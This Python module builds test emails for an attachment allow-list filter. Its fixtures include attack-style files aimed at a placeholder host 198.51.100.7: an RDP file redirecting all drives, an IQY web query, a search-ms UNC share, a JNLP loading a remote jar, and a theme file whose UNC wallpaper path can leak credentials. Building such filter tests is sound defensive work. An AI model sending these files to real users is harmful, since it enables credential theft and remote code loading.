"""
threats_lead.py - samples for the allow-list itself (issue 15): Windows
and macOS types that are text by content but run by name, a format
nobody listed, a text file under a document's name, and the controls
that must stay accepted from a known sender (a ZIP64 archive as Python's
zipfile writes it, files without extension, a DICOM-TIFF).
"""

import io
import zipfile

import gen_corpus as gc
from threatlib import MIME_OCTET, attach, sample

RDP = (b"full address:s:198.51.100.7\r\nusername:s:staff\r\n"
       b"drivestoredirect:s:*\r\nredirectclipboard:i:1\r\n")
IQY = b"WEB\r\n1\r\nhttp://198.51.100.7/q.php?x=1\r\n"
SLK = b"ID;P\r\nC;Y1;X1;K0;E1+1\r\nE\r\n"
MSC = (b'<?xml version="1.0"?>\r\n<MMC_ConsoleFile ConsoleVersion="3.0">'
       b'<StringTables/></MMC_ConsoleFile>\r\n')
SEARCH_MS = (b'<?xml version="1.0"?><searchConnectorDescription '
             b'xmlns="http://schemas.microsoft.com/windows/2009/searchConnector">'
             b'<simpleLocation><url>\\\\198.51.100.7\\share</url></simpleLocation>'
             b'</searchConnectorDescription>')
JNLP = (b'<?xml version="1.0"?><jnlp codebase="http://198.51.100.7/"><resources>'
        b'<jar href="app.jar"/></resources><application-desc main-class="A"/></jnlp>')
WSB = (b"<Configuration><LogonCommand><Command>calc.exe</Command></LogonCommand>"
       b"</Configuration>")
THEME = b"[Theme]\r\nDisplayName=Blue\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\198.51.100.7\\w.jpg\r\n"


def text_typed(name, data, ctype="text/plain"):
    def build(s):
        return attach(s, data, ctype, name)
    return build


for stem, ext, data in [("meeting", "rdp", RDP), ("prices", "iqy", IQY), ("table", "slk", SLK),
                        ("console", "msc", MSC), ("results", "search-ms", SEARCH_MS),
                        ("viewer", "jnlp", JNLP), ("sandbox", "wsb", WSB),
                        ("colours", "theme", THEME)]:
    name = "%s.%s" % (stem, ext)
    sample("text-runs-by-name-%s.eml" % ext, item=name, reasons=["executable"])(
        text_typed(name, data))


@sample("unlisted-binary-format.eml", item="records.xyz", reasons=["unknown-type"])
def unlisted_binary(s):
    return attach(s, bytes(range(256)) * 8, MIME_OCTET, "records.xyz")


@sample("text-named-pdf.eml", item="scan.pdf", reasons=["unknown-type"])
def text_named_pdf(s):
    return attach(s, b"Please call me back.\r\n", "application/pdf", "scan.pdf")


@sample("unlisted-extension-on-text.eml", item="notes.cfg0", reasons=["unknown-type"])
def unlisted_extension(s):
    return attach(s, b"colour=blue\r\n", "text/plain", "notes.cfg0")


def zip64_pdf():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        info = zipfile.ZipInfo("report.pdf", date_time=(2025, 11, 29, 9, 0, 0))
        with z.open(info, "w", force_zip64=True) as f:
            f.write(gc.make_pdf("ZIP64 report"))
    return out.getvalue()


@sample("zip64-python-pdf-clean.eml", item="report.zip", clean=True)
def zip64_clean(s):
    return attach(s, zip64_pdf(), "application/zip", "report.zip")


@sample("pdf-no-extension-clean.eml", item="scan", clean=True)
def pdf_no_extension(s):
    return attach(s, gc.make_pdf("Scan"), MIME_OCTET, "scan")


@sample("png-named-jpg-clean.eml", item="photo.jpg", clean=True)
def png_named_jpg(s):
    return attach(s, gc.make_png(), "image/jpeg", "photo.jpg")
